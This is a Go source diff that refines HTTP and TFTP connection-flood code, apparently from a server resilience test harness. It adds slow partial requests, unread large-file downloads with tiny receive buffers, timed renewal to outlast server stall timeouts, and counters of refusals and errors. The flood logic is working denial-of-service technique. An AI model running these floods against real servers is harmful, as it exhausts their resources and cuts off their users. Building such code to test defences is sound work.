@@ -57,17 +57,24 @@ type httpFlood struct {
 	path string         // a large file, asked for by connUnread and never read
 	n    [connKinds]int // how many connections of each kind to hold
 	wait time.Duration  // pause before opening again a connection the server closed
-	par  chan struct{}  // bounds the dials in flight (each takes an OS thread)
-	wg   sync.WaitGroup // the connections' goroutines
-	up   [connKinds]atomic.Int64
+	// renew is how long a connUnread connection is kept before it is
+	// replaced by a new one. When the server drops a client that does not
+	// read, its FIN waits behind the unsent data, which this client never
+	// takes: the attacker cannot see the close, so it renews the
+	// connection once the server's stall timeout has surely passed.
+	renew time.Duration
+	par   chan struct{}  // bounds the dials in flight (each takes an OS thread)
+	wg    sync.WaitGroup // the connections' goroutines
+	up    [connKinds]atomic.Int64
 
 	// Counts, from the attacker's side. opened counts every connection
 	// established; closed those the server closed (seen as EOF or reset
-	// when reading, or as a hang-up on an unread connection); failed the
-	// dials that did not connect. held is opened minus closed: what the
-	// attacker holds right now, and peak its maximum.
-	opened, closed, failed [connKinds]atomic.Int64
-	held, peak             atomic.Int64
+	// when reading, or as a hang-up on an unread connection); renewed the
+	// unread ones replaced after renew; failed the dials that did not
+	// connect. held is what the attacker holds right now, and peak its
+	// maximum.
+	opened, closed, renewed, failed [connKinds]atomic.Int64
+	held, peak                      atomic.Int64
 }
 
 // total is how many connections the flood holds at full strength.
@@ -115,12 +122,16 @@ func (f *httpFlood) hold(ctx context.Context, k connKind) {
 		if h := f.held.Add(1); h > f.peak.Load() {
 			f.peak.Store(h) // racy max: good enough for a log line
 		}
-		closedByServer := f.use(ctx, c, k)
+		end := f.use(ctx, c, k)
 		c.Close()
 		f.held.Add(-1)
 		f.up[k].Add(-1)
-		if closedByServer {
+		switch end {
+		case endClosed:
 			f.closed[k].Add(1)
+		case endRenew:
+			f.renewed[k].Add(1)
+			continue // at once: the server has already let it go
 		}
 		sleep(ctx, f.wait+rand.N(f.wait))
 	}
@@ -138,23 +149,32 @@ func (f *httpFlood) connect(ctx context.Context) (net.Conn, error) {
 	return f.dial(dctx, "tcp4", f.addr)
 }
 
-// use sends what kind k sends and waits until the server closes c (true)
-// or ctx ends (false).
-func (f *httpFlood) use(ctx context.Context, c net.Conn, k connKind) bool {
+// How a held connection ended.
+type connEnd int
+
+const (
+	endStopped connEnd = iota // the attack ended
+	endClosed                 // the server closed it
+	endRenew                  // held for renew: replace it
+)
+
+// use sends what kind k sends and waits until the server closes c, ctx
+// ends, or, for connUnread, f.renew has passed.
+func (f *httpFlood) use(ctx context.Context, c net.Conn, k connKind) connEnd {
 	host := strings.Split(f.addr, ":")[0]
 	switch k {
 	case connPartial:
 		if _, err := io.WriteString(c, "GET "+f.path+" HTTP/1.1\r\nHost: "+host+"\r\nUser-Agent: flood\r\n"); err != nil {
-			return true
+			return endClosed
 		}
 	case connUnread:
 		// A small receive buffer: the attacker spends little memory and
 		// the server's writes block sooner.
 		c.(*net.TCPConn).SetReadBuffer(4096)
 		if _, err := io.WriteString(c, "GET "+f.path+" HTTP/1.1\r\nHost: "+host+"\r\nConnection: keep-alive\r\n\r\n"); err != nil {
-			return true
+			return endClosed
 		}
-		return waitHangup(ctx, c)
+		return waitHangup(ctx, c, f.renew)
 	}
 	// Silent and partial connections get nothing from the server but its
 	// close (and perhaps an error status): reading costs the attacker
@@ -164,27 +184,33 @@ func (f *httpFlood) use(ctx context.Context, c net.Conn, k connKind) bool {
 	buf := make([]byte, 512)
 	for {
 		if _, err := c.Read(buf); err != nil {
-			return ctx.Err() == nil
+			if ctx.Err() != nil {
+				return endStopped
+			}
+			return endClosed
 		}
 	}
 }
 
 // waitHangup waits, without reading, until the peer of c closes or resets
-// it (poll's POLLRDHUP, POLLHUP or POLLERR) or ctx ends. A server that
-// closes with unsent data in its buffer does not send its FIN before the
-// data, which this client never takes, so such a close is seen only once
-// the server's kernel gives up on the connection and resets it.
-func waitHangup(ctx context.Context, c net.Conn) bool {
+// it (poll's POLLRDHUP, POLLHUP or POLLERR), ctx ends or renew passes. A
+// server that closes with unsent data in its buffer does not send its FIN
+// before the data, which this client never takes, so such a close is seen
+// only once the server's kernel gives up on the connection and resets it.
+func waitHangup(ctx context.Context, c net.Conn, renew time.Duration) connEnd {
 	rc, err := c.(*net.TCPConn).SyscallConn()
 	if err != nil {
-		return true
+		return endClosed
 	}
 	tick := time.NewTicker(time.Second)
 	defer tick.Stop()
+	deadline := time.After(renew)
 	for {
 		select {
 		case <-ctx.Done():
-			return false
+			return endStopped
+		case <-deadline:
+			return endRenew
 		case <-tick.C:
 		}
 		var gone bool
@@ -194,21 +220,22 @@ func waitHangup(ctx context.Context, c net.Conn) bool {
 				gone = true
 			}
 		}); err != nil || gone {
-			return true
+			return endClosed
 		}
 	}
 }
 
 // httpCounts is a snapshot of an httpFlood's counters.
 type httpCounts struct {
-	opened, closed, failed, up [connKinds]int64
-	held, peak                 int64
+	opened, closed, renewed, failed, up [connKinds]int64
+	held, peak                          int64
 }
 
 func (f *httpFlood) counts() httpCounts {
 	var c httpCounts
 	for k := range connKinds {
-		c.opened[k], c.closed[k], c.failed[k], c.up[k] = f.opened[k].Load(), f.closed[k].Load(), f.failed[k].Load(), f.up[k].Load()
+		c.opened[k], c.closed[k], c.renewed[k] = f.opened[k].Load(), f.closed[k].Load(), f.renewed[k].Load()
+		c.failed[k], c.up[k] = f.failed[k].Load(), f.up[k].Load()
 	}
 	c.held, c.peak = f.held.Load(), f.peak.Load()
 	return c
@@ -227,7 +254,11 @@ func (c httpCounts) String() string {
 	var b strings.Builder
 	fmt.Fprintf(&b, "held %d (peak %d)", c.held, c.peak)
 	for k := range connKinds {
-		fmt.Fprintf(&b, "; %s: held %d, opened %d, closed by the server %d, failed dials %d", k, c.up[k], c.opened[k], c.closed[k], c.failed[k])
+		fmt.Fprintf(&b, "; %s: held %d, opened %d, closed by the server %d", k, c.up[k], c.opened[k], c.closed[k])
+		if k == connUnread {
+			fmt.Fprintf(&b, ", renewed %d", c.renewed[k])
+		}
+		fmt.Fprintf(&b, ", failed dials %d", c.failed[k])
 	}
 	return b.String()
 }
@@ -260,6 +291,9 @@ type tftpFlood struct {
 	// ports that sent DATA); refusals by text; other ERROR packets.
 	sent, data, admitted, limited, busy, other atomic.Int64
 	sockets                                    atomic.Int64 // sockets open
+
+	mu     sync.Mutex
+	others map[string]int // texts of the other ERROR packets
 }
 
 // start opens the sockets and sends the first requests, all at once, and
@@ -334,14 +368,23 @@ func (f *tftpFlood) run(ctx context.Context, c net.PacketConn, rrq []byte) {
 				f.busy.Add(1)
 			default:
 				f.other.Add(1)
+				f.mu.Lock()
+				if f.others == nil {
+					f.others = map[string]int{}
+				}
+				f.others[strings.TrimRight(string(buf[4:n]), "\x00")]++
+				f.mu.Unlock()
 			}
 		}
 	}
 }
 
 func (f *tftpFlood) String() string {
-	return fmt.Sprintf("%d sockets, %d requests sent, %d admitted (%d DATA packets received, none acknowledged), refused: %d too many from this address, %d server busy, %d other errors",
-		f.sockets.Load(), f.sent.Load(), f.admitted.Load(), f.data.Load(), f.limited.Load(), f.busy.Load(), f.other.Load())
+	f.mu.Lock()
+	others := fmt.Sprint(f.others)
+	f.mu.Unlock()
+	return fmt.Sprintf("%d sockets, %d requests sent, %d admitted (%d DATA packets received, none acknowledged), refused: %d too many from this address, %d server busy; %d other errors %s",
+		f.sockets.Load(), f.sent.Load(), f.admitted.Load(), f.data.Load(), f.limited.Load(), f.busy.Load(), f.other.Load(), others)
 }
 
 // fdWatch samples how many descriptors a process holds.
